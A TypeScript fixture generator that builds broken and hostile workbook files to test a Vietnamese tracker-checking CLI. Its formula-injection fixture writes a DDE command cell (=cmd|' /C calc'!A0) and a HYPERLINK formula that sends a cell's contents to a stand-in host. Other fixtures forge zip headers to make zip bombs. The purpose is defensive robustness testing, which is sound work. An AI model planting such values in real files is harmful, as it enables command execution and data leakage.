/**
 * Generates the bad-input corpus (quality.md, "Bad input"): broken and hostile files that `cchc check` and
 * `cchc summary` must survive with a clear Vietnamese finding or message (exit 1 or 2), never a crash.
 *
 *   npx tsx scripts/make-bad-fixtures.ts [--out DIR]     (default test/fixtures/bad/)
 *
 * The files are made from a real tracker (buildTracker + renderWorkbook) damaged the way people and programs
 * damage them, plus files that are not trackers at all. test/shared/entries/bad-input.test.ts generates the
 * corpus afresh into a temporary folder and runs both commands over every file, so nothing binary is committed.
 */
import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import ExcelJS from "exceljs";
import { strFromU8, strToU8, unzipSync, zipSync } from "fflate";
import type { Plan, Task } from "../shared/plan/schema.js";
import { buildTracker } from "../shared/workbook/build-tracker.js";
import { SHEET, TASK_COLUMNS, type TaskColumnKey } from "../shared/workbook/layout.js";
import { renderWorkbook } from "../shared/xlsx/render.js";

/** One file of the corpus and what the commands must make of it. */
export interface BadFixture {
  file: string;
  description: string;
  /** Exit code of `cchc check` (1 findings with an error, 2 unusable). */
  check: 1 | 2;
  /** Exit code of `cchc summary --quarter 3 -o …`. */
  summary: 1 | 2;
  /** Finding codes `cchc check --json` must report (exit 1). */
  codes?: string[];
  /** Text the error message must contain (exit 2). */
  message?: string;
  /** A finding that must point at this cell (sheet!cell). */
  cell?: string;
}

const task = (id: string, title: string, leads: string[], due: string | null, area: string): Task => ({
  id,
  title,
  group: null,
  area,
  requirement: null,
  leads,
  partners: [],
  deadline: due ? { raw: `Trước ngày ${due}`, kind: "date", due, note: null } : { raw: "Thường xuyên", kind: "recurring", due: null, note: null },
  source: "appendix",
});

/** A small plan of five tasks: the base of every damaged tracker. */
export const BAD_BASE_PLAN: Plan = {
  title: "Kế hoạch Cải cách hành chính xã Kiểm Thử năm 2026",
  issuer: "UBND xã Kiểm Thử",
  unit: "xã Kiểm Thử",
  level: "commune",
  period: { from: "2026-01-01", to: "2026-12-31" },
  groups: [],
  targets: [],
  warnings: [],
  tasks: [
    task("1", "Ban hành kế hoạch cải cách hành chính", ["Phòng Văn hóa - Xã hội"], "2026-01-31", "Công tác chỉ đạo, điều hành"),
    task("2", "Tuyên truyền cải cách hành chính", ["Trung tâm Dịch vụ tổng hợp"], null, "Công tác chỉ đạo, điều hành"),
    task("3", "Rà soát thủ tục hành chính", ["Trung tâm Phục vụ hành chính công", "Phòng Kinh tế"], "2026-06-30", "Cải cách thủ tục hành chính"),
    task("4", "Số hóa hồ sơ, kết quả giải quyết thủ tục hành chính", ["Trung tâm Phục vụ hành chính công"], "2026-09-30", "Cải cách thủ tục hành chính"),
    task("5", "Vận hành hệ thống quản lý văn bản", ["Văn phòng HĐND và UBND xã"], "2026-12-31", "Xây dựng và phát triển chính quyền điện tử, chính quyền số"),
  ],
};

/** Header row and first task row of the generated Nhiệm vụ sheet (task n sits on row HEADER_ROW + n). */
const HEADER_ROW = 4;
const col = (key: TaskColumnKey) => TASK_COLUMNS.findIndex((c) => c.key === key) + 1;
const letter = (key: TaskColumnKey) => String.fromCharCode(64 + col(key));

/** Deterministic pseudo-random bytes (a linear congruential generator), so the corpus is the same every time. */
function noise(length: number, seed = 42): Uint8Array {
  const out = new Uint8Array(length);
  let x = seed;
  for (let i = 0; i < length; i++) {
    x = (Math.imul(x, 1103515245) + 12345) >>> 0;
    out[i] = x >>> 24;
  }
  return out;
}

async function baseTracker(): Promise<Uint8Array> {
  return renderWorkbook(buildTracker(BAD_BASE_PLAN, { unit: "xã Kiểm Thử", year: 2026, asOf: "2026-09-14" }));
}

/** Loads the tracker with exceljs, lets `edit` damage it, and saves it. */
async function damaged(base: Uint8Array, edit: (wb: ExcelJS.Workbook, tasks: ExcelJS.Worksheet) => void): Promise<Uint8Array> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(base.buffer.slice(base.byteOffset, base.byteOffset + base.byteLength) as ArrayBuffer);
  edit(wb, wb.getWorksheet(SHEET.tasks)!);
  return new Uint8Array(await wb.xlsx.writeBuffer());
}

/** Writes entries of task `id` (row HEADER_ROW + id). */
function fill(ws: ExcelJS.Worksheet, id: number, values: Partial<Record<TaskColumnKey, ExcelJS.CellValue>>): void {
  for (const [key, value] of Object.entries(values)) ws.getCell(HEADER_ROW + id, col(key as TaskColumnKey)).value = value as ExcelJS.CellValue;
}

/** Sets the declared uncompressed size of every zip entry (local and central headers). */
function declareSizes(zip: Uint8Array, size: number): Uint8Array {
  const out = zip.slice();
  const view = new DataView(out.buffer);
  for (let i = 0; i + 4 <= out.length; i++) {
    const sig = view.getUint32(i, true);
    if (sig === 0x04034b50) view.setUint32(i + 22, size, true);
    if (sig === 0x02014b50) view.setUint32(i + 24, size, true);
  }
  return out;
}

const minimalWorkbook = (extra: Record<string, Uint8Array>) =>
  zipSync({ "[Content_Types].xml": strToU8("<Types/>"), "xl/workbook.xml": strToU8("<workbook/>"), ...extra }, { level: 9 });

const date = (iso: string) => new Date(`${iso}T00:00:00Z`);

/** Builds every file of the corpus into `dir` and returns what is expected of each. */
export async function makeBadFixtures(dir: string): Promise<BadFixture[]> {
  mkdirSync(dir, { recursive: true });
  const base = await baseTracker();
  const fixtures: Array<BadFixture & { bytes: Uint8Array }> = [];
  const add = (f: BadFixture, bytes: Uint8Array) => fixtures.push({ ...f, bytes });

  // Not workbooks at all.
  add({ file: "empty.xlsx", description: "tệp rỗng", check: 2, summary: 2, message: "rỗng" }, new Uint8Array(0));
  add({ file: "random-bytes.xlsx", description: "byte ngẫu nhiên", check: 2, summary: 2, message: "không phải tệp Excel" }, noise(64 * 1024));
  add({ file: "csv-renamed.xlsx", description: "CSV đổi đuôi", check: 2, summary: 2, message: "không phải tệp Excel" }, strToU8("Mã,Nội dung,Trạng thái\n1,Ban hành kế hoạch,Hoàn thành\n"));
  add(
    { file: "html-renamed.xlsx", description: "bảng HTML lưu thành .xlsx", check: 2, summary: 2, message: "không phải tệp Excel" },
    strToU8("<html><body><table><tr><td>Mã</td><td>Trạng thái</td></tr></table></body></html>"),
  );
  add({ file: "zip-not-workbook.xlsx", description: "tệp nén không phải bảng tính", check: 2, summary: 2, message: "không phải bảng tính" }, zipSync({ "baocao.docx": noise(2000), "ghichu.txt": strToU8("xin chào") }));
  add(
    { file: "encrypted.xlsx", description: "tệp có mật khẩu (vỏ OLE/CFB)", check: 2, summary: 2, message: "mật khẩu" },
    Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, ...noise(8184, 7)]),
  );
  add({ file: "truncated.xlsx", description: "tệp bị cắt cụt", check: 2, summary: 2, message: "bị hỏng" }, base.slice(0, Math.floor(base.length / 2)));
  {
    const files = unzipSync(base);
    files["xl/worksheets/sheet2.xml"] = strToU8('<?xml version="1.0"?><worksheet><sheetData><row r="1"><c r="A1" t="s"><v>');
    add({ file: "corrupt-xml.xlsx", description: "XML trang tính hỏng", check: 2, summary: 2, message: "Không đọc được" }, zipSync(files));
  }
  add(
    { file: "zip-bomb-declared.xlsx", description: "bom nén khai báo 4 GB", check: 2, summary: 2, message: "vượt quá" },
    declareSizes(minimalWorkbook({ "xl/worksheets/sheet1.xml": new Uint8Array(64 * 1024) }), 0xfffffff0),
  );
  add(
    { file: "zip-bomb-lying.xlsx", description: "bom nén khai báo sai (100 byte, thực tế 64 MB)", check: 2, summary: 2, message: "lớn hơn kích thước tệp tự khai báo" },
    declareSizes(minimalWorkbook({ "xl/worksheets/sheet1.xml": new Uint8Array(64 * 1024 * 1024) }), 100),
  );

  // Workbooks that are not (or no longer) trackers.
  {
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet("Sheet1");
    ws.addRow(["Danh sách cán bộ"]);
    ws.addRow(["Họ tên", "Chức vụ"]);
    ws.addRow(["Nguyễn Văn A", "Chuyên viên"]);
    add({ file: "not-a-tracker.xlsx", description: "bảng tính khác", check: 1, summary: 1, codes: ["notTracker", "noTaskTable"] }, new Uint8Array(await wb.xlsx.writeBuffer()));
  }
  add(
    { file: "no-meta.xlsx", description: "sổ bị xóa trang _meta", check: 1, summary: 2, codes: ["notTracker"], message: "--year" },
    await damaged(base, (wb) => wb.removeWorksheet(wb.getWorksheet(SHEET.meta)!.id)),
  );
  add(
    { file: "unknown-version.xlsx", description: "mẫu phiên bản lạ", check: 1, summary: 1, codes: ["unknownVersion"], cell: "_meta!B1" },
    await damaged(base, (wb) => {
      wb.getWorksheet(SHEET.meta)!.getCell("B1").value = "99";
    }),
  );
  add(
    { file: "no-header.xlsx", description: "hàng tiêu đề bị xóa", check: 1, summary: 1, codes: ["noTaskTable"] },
    await damaged(base, (_wb, ws) => {
      for (let c = 1; c <= TASK_COLUMNS.length; c++) ws.getCell(HEADER_ROW, c).value = null;
    }),
  );

  // Edited headers and columns.
  add(
    {
      file: "renamed-headers.xlsx", description: "đổi tên tiêu đề cột", check: 1, summary: 1, codes: ["headerMissing", "headerRenamed"],
      cell: `${SHEET.tasks}!${letter("progress")}${HEADER_ROW}`,
    },
    await damaged(base, (_wb, ws) => {
      ws.getCell(HEADER_ROW, col("status")).value = "Tình hình";
      ws.getCell(HEADER_ROW, col("progress")).value = "Tiến độ thực hiện";
    }),
  );
  add(
    { file: "missing-header.xlsx", description: "xóa tiêu đề cột Kết quả", check: 1, summary: 1, codes: ["headerMissing"] },
    await damaged(base, (_wb, ws) => {
      ws.getCell(HEADER_ROW, col("result")).value = null;
    }),
  );
  add(
    {
      file: "moved-columns.xlsx", description: "di chuyển cột Trạng thái và Ghi chú", check: 1, summary: 1, codes: ["columnsMoved", "statusInvalid"],
      cell: `${SHEET.tasks}!${letter("note")}${HEADER_ROW + 3}`,
    },
    await damaged(base, (_wb, ws) => {
      // Swap the Trạng thái and Ghi chú columns (headers and cells), then type a wrong status in the moved column.
      for (let r = HEADER_ROW; r <= HEADER_ROW + 5; r++) {
        const a = ws.getCell(r, col("status"));
        const b = ws.getCell(r, col("note"));
        const t = a.value;
        a.value = b.value;
        b.value = t;
      }
      ws.getCell(HEADER_ROW + 3, col("note")).value = "Đang làm";
    }),
  );

  // Rows deleted, duplicated, all gone.
  add(
    { file: "deleted-row.xlsx", description: "xóa một hàng nhiệm vụ", check: 1, summary: 1, codes: ["taskMissing"] },
    await damaged(base, (_wb, ws) => ws.spliceRows(HEADER_ROW + 3, 1)),
  );
  add(
    { file: "duplicated-row.xlsx", description: "nhân đôi một hàng nhiệm vụ", check: 1, summary: 1, codes: ["taskDuplicate"], cell: `${SHEET.tasks}!A${HEADER_ROW + 6}` },
    await damaged(base, (_wb, ws) => {
      const src = ws.getRow(HEADER_ROW + 2);
      const dst = ws.getRow(HEADER_ROW + 6);
      src.eachCell({ includeEmpty: false }, (cell, c) => {
        dst.getCell(c).value = cell.value;
      });
      dst.getCell(col("status")).value = "Hoàn thành";
    }),
  );
  add(
    { file: "all-rows-deleted.xlsx", description: "xóa hết hàng nhiệm vụ", check: 1, summary: 1, codes: ["taskMissing"] },
    await damaged(base, (_wb, ws) => {
      // exceljs' spliceRows leaves the last rows of a sheet in place, so clear them the way "Delete" does.
      for (let r = HEADER_ROW + 1; r <= HEADER_ROW + 5; r++) ws.getRow(r).eachCell((cell) => void (cell.value = null));
    }),
  );

  // Entries that are wrong in every way people make them wrong.
  add(
    {
      file: "bad-entries.xlsx", description: "nhập sai: tiến độ, thiếu ngày, thiếu kết quả, thiếu lý do", check: 1, summary: 1,
      codes: ["progressOutOfRange", "progressNotWhole", "doneWithoutDate", "doneWithoutResult", "doneProgressBelow100", "droppedWithoutReason", "completedAfterAsOf"],
      cell: `${SHEET.tasks}!${letter("progress")}${HEADER_ROW + 3}`,
    },
    await damaged(base, (_wb, ws) => {
      fill(ws, 1, { status: "Hoàn thành", progress: 80 });
      fill(ws, 3, { status: "Đang thực hiện", progress: 150 });
      fill(ws, 4, { status: "Đang thực hiện", progress: 0.5 });
      fill(ws, 5, { status: "Không thực hiện" });
      fill(ws, 2, { status: "Hoàn thành", progress: 100, result: "Báo cáo", completedOn: date("2031-01-01") });
    }),
  );
  add(
    { file: "statuses-typed.xlsx", description: "gõ trạng thái đè lên danh sách", check: 1, summary: 1, codes: ["statusInvalid", "statusNotExact"] },
    await damaged(base, (_wb, ws) => {
      fill(ws, 1, { status: "hoàn thành", progress: 100, completedOn: date("2026-01-20"), result: "KH 1" });
      fill(ws, 3, { status: "Xong" });
      fill(ws, 4, { status: "Đang làm" });
    }),
  );
  add(
    { file: "text-dates.xlsx", description: "ngày nhập dạng chữ", check: 1, summary: 1, codes: ["dateAsText", "dateInvalid"] },
    await damaged(base, (_wb, ws) => {
      fill(ws, 1, { status: "Hoàn thành", progress: 100, completedOn: "15/1/2026", result: "KH 1" });
      fill(ws, 3, { status: "Hoàn thành", progress: 100, completedOn: "15-03-2026", result: "KH 3" });
      fill(ws, 4, { status: "Hoàn thành", progress: 100, completedOn: "15.03.2026", result: "KH 4" });
      fill(ws, 5, { status: "Hoàn thành", progress: 100, completedOn: "32/13/2026", result: "KH 5" });
    }),
  );
  add(
    { file: "formulas-in-entries.xlsx", description: "công thức ở cột nhập liệu", check: 1, summary: 1, codes: ["formulaInEntry"], cell: `${SHEET.tasks}!${letter("progress")}${HEADER_ROW + 3}` },
    await damaged(base, (_wb, ws) => {
      fill(ws, 3, { status: { formula: 'IF(1,"Đang thực hiện","")', result: "Đang thực hiện" }, progress: { formula: "20+30", result: 50 } });
    }),
  );
  add(
    { file: "formula-injection.xlsx", description: "nội dung chèn công thức", check: 1, summary: 1, codes: ["formulaText", "statusInvalid", "formulaInEntry"] },
    await damaged(base, (_wb, ws) => {
      fill(ws, 1, { status: "Hoàn thành", progress: 100, completedOn: date("2026-01-20"), result: '=HYPERLINK("http://example.invalid/?q="&A1,"Bấm vào đây")', note: "@SUM(1+1)" });
      fill(ws, 3, { status: "=cmd|' /C calc'!A0" });
      fill(ws, 4, { status: "Đang thực hiện", result: { formula: 'HYPERLINK("http://example.invalid","Bấm")', result: "Bấm" } });
    }),
  );
  add(
    { file: "huge-cells.xlsx", description: "ô rất dài và trang tính rất lớn", check: 1, summary: 1, codes: ["textTooLong", "sheetTruncated"] },
    await damaged(base, (wb, ws) => {
      fill(ws, 3, { status: "Đang thực hiện", note: "Khó khăn về kinh phí. ".repeat(2000) });
      const far = wb.addWorksheet("Ghi chép");
      far.getCell("A1").value = "Ghi chép của cán bộ";
      far.getCell(150_000, 3).value = "ô ở rất xa";
    }),
  );

  for (const f of fixtures) writeFileSync(join(dir, f.file), f.bytes);
  return fixtures.map(({ bytes: _bytes, ...f }) => f);
}

if (import.meta.url === pathToFileURL(process.argv[1] ?? "").href) {
  const outArg = process.argv.indexOf("--out");
  const out = outArg > 0 && process.argv[outArg + 1] ? process.argv[outArg + 1]! : join(import.meta.dirname, "..", "test", "fixtures", "bad");
  const made = await makeBadFixtures(out);
  process.stdout.write(made.map((f) => `${f.file}\t${f.description}`).join("\n") + "\n");
}
